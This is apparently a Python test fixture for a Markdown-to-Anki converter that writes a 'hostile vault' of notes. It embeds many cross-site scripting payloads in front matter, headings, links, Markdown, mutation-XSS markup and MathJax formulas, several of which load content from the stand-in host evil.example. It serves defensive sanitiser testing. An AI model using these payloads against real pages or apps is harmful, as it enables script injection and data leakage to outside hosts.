"""What an attacker would write into a note: payloads for every place that a card's text can come from."""

from __future__ import annotations

import json
from pathlib import Path

#: What a payload does where it runs: the page's own record of it.
TRAP = "trap()"
FAR = "https://evil.example/"

SCRIPTS = (
    f"<script>{TRAP}</script>",
    f"<ScRiPt src={FAR}x.js></sCrIpT>",
    f"<img src=x onerror={TRAP}>",
    f"<img src=x onerror='{TRAP}'//",
    f"<svg onload={TRAP}>",
    f"<svg><script>{TRAP}</script></svg>",
    f"<svg><animate onbegin={TRAP} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{TRAP}><text>x</text></a></svg>",
    f"<svg><image href={FAR}x.png /><use href='{FAR}x.svg#x'/></svg>",
    f"<svg><foreignObject><iframe src=javascript:{TRAP}></iframe></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{TRAP}>x</maction></math>",
    f"<math href=javascript:{TRAP}>x</math>",
    f"<body onload={TRAP}>",
    f"<details open ontoggle={TRAP}><summary>x</summary></details>",
    f"<video><source onerror={TRAP}></video>",
    f"<video poster={FAR}x.png src={FAR}x.mp4 autoplay onplay={TRAP}></video>",
    f"<audio src={FAR}x.mp3 autoplay></audio>",
    f"<iframe src={FAR}></iframe>",
    f"<iframe srcdoc='<script>parent.{TRAP}</script>'></iframe>",
    f"<object data={FAR}x.swf></object><embed src={FAR}x.swf><applet code=x></applet>",
    f"<form action={FAR}><button formaction=javascript:{TRAP}>x</button><input onfocus={TRAP} autofocus></form>",
    f"<input type=image src={FAR}x.png><input type=text id=typeans value=x>",
    f"<link rel=stylesheet href={FAR}x.css><link rel=prefetch href={FAR}>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href={FAR}>",
    f"<style>@import '{FAR}x.css'; * {{ background: url({FAR}x.png) }}</style>",
    f'<div style="background:url({FAR}x.png);position:fixed;inset:0;z-index:9;--n2a-ground:red">x</div>',
    f"<p style=\"color:url('{FAR}x');background-color:image-set('{FAR}x.png' 1x);behavior:url(x)\">x</p>",
    f'<p style="width:expression({TRAP});list-style-image:url({FAR}x.png);content:url({FAR})">x</p>',
    f'<p style="c\\6flor:red;background\\3a url({FAR}x.png)">x</p>',
    f"<table background={FAR}x.png><td background={FAR}x.png>x</table>",
    f"<img srcset='{FAR}x.png 1x' src={FAR}y.png><picture><source srcset={FAR}x.png><img></picture>",
    f"<img src=//evil.example/x.png><img src='\\\\evil.example\\x.png'><img lowsrc={FAR}x.png dynsrc={FAR}x>",
    f"<img src='data:image/svg+xml,<svg onload={TRAP}>'>",
    f"<img src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'><script>{TRAP}</script></svg>\">",
    f"<marquee onstart={TRAP}>x</marquee><blink>x</blink><frameset onload={TRAP}><frame src={FAR}></frameset>",
    f"<a href=javascript:{TRAP}>x</a><a href='java\tscript:{TRAP}'>x</a><a href=' &#1; javascript:{TRAP}'>x</a>",
    f"<a href='&#106;avascript&colon;{TRAP}'>x</a><a href=vbscript:{TRAP}>x</a><a href='data:text/html,x'>x</a>",
    f"<a href=other.md>x</a><a href=//evil.example>x</a><a href=pycmd:ans>x</a><a href='#' onclick={TRAP}>x</a>",
    f"<a href={FAR} target=_blank ping={FAR}ping rel=opener>x</a>",
    f"<x onclick={TRAP} onmouseover={TRAP} onpointerrawupdate={TRAP} style=animation-name:x onanimationstart={TRAP}>x",
    "<div id=qa>x</div><div id=content>x</div><hr id=answer><code id=typeans>x</code><form name=MathJax></form>",
    "<div class='card nightMode night_mode ankidroid_dark_mode'>x</div><span class='cloze typeGood'>x</span>",
    "<a class='replay-button soundLink' href=#>x</a><i class='mathjax_process tex2jax_process MathJax'>\\(x\\)</i>",
    f"<pre class=mathjax_process><code class=mathjax_process>\\(\\href{{javascript:{TRAP}}}{{x}}\\)</code></pre>",
)
#: Markup that reads otherwise the second time it is parsed.
MUTATIONS = (
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={TRAP}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={TRAP}>'>",
    f"<svg><style><img src=1 onerror={TRAP}></style></svg>",
    f"<svg><desc><style><!--</style><a title='--><img src=x onerror={TRAP}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={TRAP}>'>",
    f"<template><img src=x onerror={TRAP}></template><template><script>{TRAP}",
    f"<textarea><img title='</textarea><img src=x onerror={TRAP}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={TRAP}>'></title>",
    f"<xmp><img title='</xmp><img src=x onerror={TRAP}>'></xmp>",
    f"<noembed><img title='</noembed><img src=x onerror={TRAP}>'></noembed>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={TRAP}>",
    f"<!--><img src=x onerror={TRAP}>-->",
    f"<!--[if IE]><img src=x onerror={TRAP}><![endif]-->",
    f"<![CDATA[<img src=x onerror={TRAP}>]]>",
    f"<?xml <img src=x onerror={TRAP}> ?>",
    f"<select><style></select><img src=x onerror={TRAP}></style>",
    f"<table><style><!--</table><img src=x onerror={TRAP}>--></style>",
    f"<plaintext><img src=x onerror={TRAP}>",
    f'<b title="`onmouseover={TRAP}">x</b><img alt="``onerror={TRAP}" src=x>',
    f"<a title='\"><img src=x onerror={TRAP}>'>x</a>",
    f"</div></div></section><img src=x onerror={TRAP}><div",
    "<b><i><u><table><tr><td><details><summary><ul><li><p><a href='https://x",
    f"<image src=x onerror={TRAP}><isindex action=javascript:{TRAP}>",
    "<div\x00onclick=x><scr\x00ipt>x</scr\x00ipt>",
)
#: Markdown that makes links, images, code and formulas of it.
MARKDOWN = (
    f'![" onerror={TRAP} x|30](<data:image/svg+xml;utf8,%3Csvg onload={TRAP}%3E>)',
    f"[x](javascript:{TRAP}) [x](JaVaScRiPt:{TRAP} 't') [x](<data:text/html,x>) [x](vbscript:{TRAP})",
    f"[x]({FAR} '\" onmouseover={TRAP} \"') <javascript:{TRAP}> [r]\n\n[r]: javascript:{TRAP}",
    f"![x]({FAR}x.png) ![x](//evil.example/x.png) ![x](file:///etc/passwd) ![x](../../x.png)",
    f'![" onerror={TRAP} "](x.png) ![[x.png|" onerror={TRAP}]] ![[x.png|99999x99999]] ![[{FAR}x.png]]',
    f'[[x|<img src=x onerror={TRAP}>]] [[" onclick={TRAP}]] [[#<b>x]]',
    f'```" onclick={TRAP}\nx\n```\n\n~~~<script>{TRAP}</script>\n</code></pre><script>{TRAP}</script>\n~~~',
    f'> [!" onclick={TRAP}] <img src=x onerror={TRAP}>\n> x\n\n> [!note]- [x](javascript:{TRAP})\n> x',
    f'x[^<img src=x onerror={TRAP}>] y[^" onclick=]\n\n[^" onclick=]: <script>{TRAP}</script>',
    f'| <img src=x onerror={TRAP}> | b |\n|:--" onclick={TRAP}|---|\n| [x](javascript:{TRAP}) | `</code><script>` |',
    f"`<img src=x onerror={TRAP}>` ==<svg onload={TRAP}>== **<script>{TRAP}</script>** #<b>tag",
    "[sound:evil.mp3] `[sound:evil.mp3]` [anki:play:q:0] [anki:tts lang=en]x[/anki:tts] [[type:Question]] `[[type:Answer]]`",
    "[latex]x[/latex] `[latex]x[/latex]` [$]x[/$] [$$]x[/$$] [LaTeX]x[/LaTeX]",
    "{{c1::x}} `{{c1::x::y}}` {{c1,2::x}} {{C3::x}} {{Question}} {{#Removed}}x{{/Removed}} {{^Uid}}x{{/Uid}} {{FrontSide}}",
    "\\(x\\) \\\\(x\\\\) \\[x\\] `\\(x\\)` \\<wbr>(x\\<wbr>) <b>\\</b>(x) &#92;(x&#92;) &bsol;(x&bsol;)",
    "\ue0000\ue001 \ue0020\ue003 &#xE000;0&#xE001; <b title='&#xE000;0&#57345;'>x</b> $y$ &#xe000;7&#xe001;",
    "\x02wzxhzdk:0\x03 &#2;wzxhzdk:0&#3; <b title='\x02wzxhzdk:0\x03'>x</b> \x02klzzwxh:0001\x03",
    f"$\" onmouseover={TRAP} x=\"$ <b title='&#xE000;0&#xE001;'>x</b>",
)
#: Formulas that MathJax would make links, styles and requests of.
FORMULAS = (
    f"\\href{{javascript:{TRAP}}}{{x}}",
    f"\\style{{background:url({FAR}x.png);position:fixed}}{{x}}",
    f"\\let\\a\\style \\a{{background:url({FAR}x.png)}}{{x}}",
    f"\\mmlToken{{mi}}[href='javascript:{TRAP}' style='background:url({FAR}x.png)']{{x}}",
    f"\\bbox[background:url({FAR}x.png)]{{x}}",
    f"\\bbox[5px, border: 1px solid red; background: url({FAR}x.png)]{{x}}",
    f"\\fcolorbox{{red;background:url({FAR}x.png)}}{{white}}{{x}}",
    f"\\definecolor{{a}}{{named}}{{red;background:url({FAR}x.png)}}\\fcolorbox{{a}}{{white}}{{x}}",
    f"\\unicode[x;background:url({FAR}x.png)]{{x41}}",
    f"\\require{{{FAR}x}} x",
    "\\require{[evil]} \\require{html} \\class{card}{x} \\cssId{qa}{x}",
    "\\text{</script><script>trap()</script>} < > & \" '",
    "\\) <img src=x onerror=trap()> \\(",
    "\\text{[sound:x.mp3] {{c1::x}} [latex]x[/latex]}",
    "\\def\\x{\\x}\\x",
)
ALL = (*SCRIPTS, *MUTATIONS, *MARKDOWN, *(f"${tex}$" for tex in FORMULAS), *(f"$$\n{tex}\n$$" for tex in FORMULAS))
#: Payloads that stay in one line, for headings and names.
ONE_LINE = tuple(payload for payload in ALL if "\n" not in payload)


def write_hostile_vault(vault: Path) -> None:
    """Write a vault that has a payload in every place that a card's text can come from."""
    vault.mkdir(parents=True)
    (vault / "note2anki.toml").write_text('vault_id = "hostile"\n\n[concepts]\nrecall = true\n', "utf-8")
    (vault / "x.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    for number, payload in enumerate(ALL):
        line = ONE_LINE[number % len(ONE_LINE)]
        other = ONE_LINE[(number + 1) % len(ONE_LINE)]
        option = ("", "#anki/type", "#anki/reverse", "#anki/cloze")[number % 4]
        note = [
            *("---", f"aliases: [{_quoted(other)}]", f"tags: [{_quoted(line)}]", f"deck: {_quoted('D ' + line)}"),
            *(f"description: {_quoted(line + ' described')}", "---", f"# {line}", f"## {other}"),
            *(f"##### Payload {number} {line} {option}", f"> [!hint] {line}"),
            *(f"> {part}" for part in payload.split("\n")),
            *("", payload, "", f"See [[{_linkable(other)}|{_linkable(line)}]] and [[Note {number - 1}]]."),
            *(f"=={_linkable(other)}=={line}", "", "---", f"Tags: #{line.split()[0]}"),
        ]
        (vault / f"Note {number}.md").write_text("\n".join(note), "utf-8")
    for number, payload in enumerate(ONE_LINE):
        name = "".join("∕" if letter == "/" else letter for letter in payload if letter >= " ")[:60]
        question = f"##### Named {number}\nSee [[Note {number}]] and [[{_linkable(payload)}]].\n"
        (vault / f"{number} {name}.md").write_text(question, "utf-8")


def _quoted(text: str) -> str:
    return json.dumps("".join(letter for letter in text if letter >= " "))


def _linkable(text: str) -> str:
    return "".join(letter for letter in text if letter not in "[]|\n#^=")
